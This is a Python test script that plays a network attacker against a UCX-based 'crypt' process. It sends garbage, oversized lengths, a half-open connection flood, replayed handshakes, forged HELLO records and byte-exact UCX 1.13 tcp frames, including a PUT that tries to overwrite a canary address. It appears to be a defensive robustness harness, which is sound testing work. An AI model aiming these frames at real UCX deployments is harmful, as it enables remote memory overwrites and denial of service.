#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A stranger on the network: no job secret, only what crosses the wire.

    attacker.py HOST PORTS CANARY_ADDR PCAP [ONLY]

Connects to every listening TCP port of a crypt process (PORTS, comma
separated) and sends, on fresh connections each time: garbage, oversized
lengths, a half-open flood, the first bytes of an honest connection
replayed (taken from PCAP, a capture of the honest traffic), a forged HELLO
record carrying a real peer's public key (also taken from PCAP: UCP
exchanges it in its worker address), and byte-exact frames of UCX 1.13's
tcp transport (connection request with its magic number, then a PUT
request aimed at CANARY_ADDR, the victim's canary; then headers that UCX's
tcp asserts on), and a client's connection request as UCX's tcp
connection manager reads it (length, status, then what it hands to UCP).
Prints one line per attack and what the victim did with
it: "closed" (it hung up on us), "open" (it kept the connection), or
"refused" (no connection at all). ONLY (comma separated names) runs just
those attacks. The verdict is the caller's: the victim
must survive, its canary stay intact, and an honest transfer beside this
complete with verified data.
"""
import os
import socket
import struct
import sys
import time

UCT_AM_ID_MAX = 64                      # uct.h (1.13.1)
TCP_MAGIC = 0xCAFEBABE12345678          # src/uct/tcp/tcp.h, UCT_TCP_MAGIC_NUMBER
TCP_CM_AM_ID = UCT_AM_ID_MAX            # UCT_TCP_EP_CM_AM_ID
TCP_PUT_REQ_AM_ID = UCT_AM_ID_MAX + 1   # UCT_TCP_EP_PUT_REQ_AM_ID
TCP_CM_CONN_REQ = 1                     # UCT_TCP_CM_CONN_REQ


def tcp_am(am_id, payload):
    """uct_tcp_am_hdr_t (packed: u8 am_id, u32 length) and the payload"""
    return struct.pack("<BI", am_id, len(payload)) + payload


def tcp_conn_req(host, port):
    """magic, then uct_tcp_cm_conn_req_pkt_t (enum event, u8 flags, u64
    cm_id) and the initiator's sockaddr_in"""
    sin = struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) + \
        socket.inet_aton(host) + bytes(8)
    pkt = struct.pack("<iBQ", TCP_CM_CONN_REQ, 0, 1) + sin
    return struct.pack("<Q", TCP_MAGIC) + tcp_am(TCP_CM_AM_ID, pkt)


def tcp_put_req(addr, data):
    """uct_tcp_ep_put_req_hdr_t (u64 addr, u64 length, u32 sn), then data"""
    return tcp_am(TCP_PUT_REQ_AM_ID, struct.pack("<QQI", addr, len(data), 0)) + data


def crypt_hello(public_key, wire_version):
    """a HELLO record (base/format.h): type 2, generation 0, flags 0, a
    new flow id, sequence 1 (what forced a victim's eps to fail), the
    victim peer's public key, 16 bytes of sealed AM id and payload, a
    made-up tag"""
    record = struct.pack("<BBHQQ", 2, 0, 0, int.from_bytes(os.urandom(8), "little") | 1,
                         1) + public_key + os.urandom(16) + os.urandom(16)
    if wire_version >= 3:
        # the frame of crypt's own wire: length, type RECORD, 3 zero bytes
        return struct.pack("<IB3x", len(record), 1) + record
    return record


def pcap_payloads(path):
    """(src port, dst port, payload) of every IPv4 TCP segment with data"""
    out = []
    try:
        data = open(path, "rb").read()
    except OSError:
        return out
    if len(data) < 24:
        return out
    endian = "<" if data[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
    off = 24
    while off + 16 <= len(data):
        _, _, incl, _ = struct.unpack(endian + "IIII", data[off:off + 16])
        pkt = data[off + 16:off + 16 + incl]
        off += 16 + incl
        if len(pkt) < 14 + 20 or pkt[12:14] != b"\x08\x00":
            continue
        ip = pkt[14:]
        ihl = (ip[0] & 0x0F) * 4
        if ip[9] != 6:
            continue
        tcp = ip[ihl:]
        if len(tcp) < 20:
            continue
        sport, dport = struct.unpack(">HH", tcp[:4])
        doff = (tcp[12] >> 4) * 4
        total = struct.unpack(">H", ip[2:4])[0]
        payload = tcp[doff:total - ihl]
        if payload:
            out.append((sport, dport, payload))
    return out


def first_bytes_to(payloads, ports):
    """the first payload an honest peer sent to each of `ports` that got
    one: {port: bytes}"""
    first = {}
    for sport, dport, payload in payloads:
        if dport in ports and dport not in first:
            first[dport] = payload[:256]
    return first


def sockcm_request(data):
    """what UCX's tcp connection manager (tcp_sockcm) reads first:
    uct_tcp_sockcm_priv_data_hdr_t (size_t length, u8 status, padding),
    then that much private data, which it hands to UCP as a client's
    connection request (src/uct/tcp/tcp_sockcm_ep.c, 1.13.1)"""
    return struct.pack("<QB", len(data), 0) + bytes(7) + data


# CRYPT_WIRE_VERSION of the build under attack (base/format.h), read
# from the header by the caller: a version this script did not know made
# its "forged HELLO with a real peer's key" use a random key unseen
WIRE_VERSION = int(os.environ.get("CRYPT_WIRE_VERSION", "7"))


def peer_public_key(payloads):
    """a crypt iface address in UCP's worker address (version, flags =
    job secret, 16-byte keys, then the X25519 public key)"""
    # (the newest version first: an older pattern matches random bytes
    # more often than a real address; the key size is 128 or 256 bits)
    for version in range(WIRE_VERSION, 1, -1):
        for _, _, payload in payloads:
            for key_bytes in (16, 32):
                i = payload.find(bytes([version, 1, key_bytes]))
                if i >= 0 and i + 3 + 32 <= len(payload):
                    return version, payload[i + 3:i + 35]
    return WIRE_VERSION, os.urandom(32)


ONLY = set(sys.argv[5].split(",")) if len(sys.argv) > 5 and sys.argv[5] else None


def attack(host, port, name, data, hold=0.3):
    if ONLY is not None and name not in ONLY:
        return
    try:
        s = socket.create_connection((host, port), timeout=2)
    except OSError:
        print(f"attack {name} port {port}: refused")
        return
    verdict = "open"
    try:
        if data:
            s.sendall(data)
        s.settimeout(hold)
        try:
            if s.recv(4096) == b"":
                verdict = "closed"
        except socket.timeout:
            pass
    except OSError:
        verdict = "closed"
    finally:
        s.close()
    print(f"attack {name} port {port}: {verdict}")


def half_open_flood(host, port, count=300, hold=2.0):
    if ONLY is not None and "half_open_flood" not in ONLY:
        return
    socks = []
    for _ in range(count):
        try:
            socks.append(socket.create_connection((host, port), timeout=2))
        except OSError:
            break
    time.sleep(hold)
    closed = 0
    for s in socks:
        s.setblocking(False)
        try:
            if s.recv(1) == b"":
                closed += 1
        except (BlockingIOError, OSError):
            pass
        s.close()
    print(f"attack half_open_flood port {port}: {len(socks)} opened, {closed} closed by the victim")


def main():
    host, ports, canary, pcap = sys.argv[1], sys.argv[2], int(sys.argv[3], 0), sys.argv[4]
    ports = [int(p) for p in ports.split(",") if p]
    payloads = pcap_payloads(pcap)
    replays = first_bytes_to(payloads, ports)
    version, public_key = peer_public_key(payloads)
    print(f"attacker: ports {ports}, canary {canary:#x}, wire version {version}, "
          f"first bytes of honest connections to replay: " +
          ", ".join(f"{len(b)} to port {p}" for p, b in replays.items()))
    me = "10.77.0.2"
    for port in ports:
        attack(host, port, "tcp_put_to_canary", tcp_conn_req(me, port) +
               tcp_put_req(canary, b"A" * 64), hold=1.0)
        attack(host, port, "garbage", os.urandom(4096))
        attack(host, port, "oversized_length", struct.pack("<IBBH", 0xFFFFFFFF, 1, 0, 0) +
               os.urandom(64))
        attack(host, port, "oversized_tcp_am", tcp_conn_req(me, port) +
               struct.pack("<BI", 0, 0xFFFFFFF0) + os.urandom(64))
        attack(host, port, "forged_hello_real_key", crypt_hello(public_key, version))
        attack(host, port, "forged_hello_in_tcp_am", tcp_conn_req(me, port) +
               tcp_am(0, crypt_hello(public_key, 2)))
        attack(host, port, "tcp_conn_req_bad_length", struct.pack("<Q", TCP_MAGIC) +
               tcp_am(TCP_CM_AM_ID, struct.pack("<iBQ", TCP_CM_CONN_REQ, 0, 1)))
        attack(host, port, "forged_connection_request", sockcm_request(b"\xff" * 300))
        if port in replays:
            attack(host, port, "replayed_handshake", replays[port], hold=1.0)
        half_open_flood(host, port)
    sys.stdout.flush()


if __name__ == "__main__":
    main()
